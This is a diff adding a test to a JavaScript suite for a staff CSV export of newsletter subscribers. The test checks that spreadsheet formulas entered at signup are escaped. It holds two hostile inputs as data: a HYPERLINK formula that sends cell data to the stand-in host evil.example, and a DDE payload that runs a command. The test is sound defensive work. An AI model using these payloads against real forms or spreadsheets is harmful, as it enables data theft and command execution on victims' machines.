@@ -198,6 +198,16 @@ describe('GET /api/newsletter/subscribers (staff export)', () => {
     expect(lines.some((l) => l.startsWith('hal@example.com,Hal,H,pending,'))).toBe(true);
   });
 
+  it('neutralises a formula typed into the anonymous signup form (issue 22 §5)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    await subscribe({ FNAME: formula, LNAME: '+cmd|" /C calc"!A0', EMAIL: 'mallory@example.com' });
+    const res = await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.admin) });
+    const line = res.text.split('\n').find((l) => l.startsWith('mallory@example.com,'));
+    expect(line).toMatch(
+      /^mallory@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""Click""\)","'\+cmd\|"" \/C calc""!A0",pending,/,
+    );
+  });
+
   it('is closed to anyone else', async () => {
     expect((await callApi(subscribersRoute)).status).toBe(401);
     expect((await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.reviewer) })).status).toBe(
